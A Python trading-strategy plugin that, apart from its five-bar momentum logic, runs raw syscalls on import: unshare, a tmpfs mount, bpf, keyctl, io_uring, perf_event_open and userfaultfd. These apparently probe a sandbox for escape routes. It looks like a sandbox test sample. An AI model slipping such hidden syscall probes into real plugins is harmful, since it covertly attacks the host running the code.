"""Tries unshare, mount, bpf, keyctl, io_uring, perf."""

import ctypes

import pandas as pd

from adapters.base_adapter import Config, ExitRequest, Indicators, OrderRequest, Position

LIBRARY = ctypes.CDLL(None, use_errno=True)
BUFFER = ctypes.create_string_buffer(512)
for call in (
    (272, 0x10000000), (165, b"none", b"/tmp", b"tmpfs", 0, 0), (321, 0, 0, 0), (250, 0, -3, 0),
    (425, 4, BUFFER), (298, BUFFER, 0, -1, -1, 0), (323, 0),
):
    LIBRARY.syscall(*call)


class Strategy:
    """Follows the direction of five bars."""

    def __init__(self, cfg: Config) -> None:
        self.cfg = cfg

    def prepare_indicators(self, df: pd.DataFrame) -> Indicators:
        return {"move": df["Close"].diff(5)}

    def find_entries(
        self, df: pd.DataFrame, indicators: Indicators, idx: int
    ) -> OrderRequest | None:
        if idx < 6 or not indicators["move"].iloc[idx] > 0.0:
            return None
        return {"action": "BUY", "symbol": self.cfg["symbol"], "volume": 1.0, "type": "MARKET"}

    def find_exits(
        self, position: Position, df: pd.DataFrame, indicators: Indicators, idx: int
    ) -> ExitRequest | None:
        if indicators["move"].iloc[idx] < 0.0:
            return {"position_id": position["position_id"], "reason": "move down"}
        return None
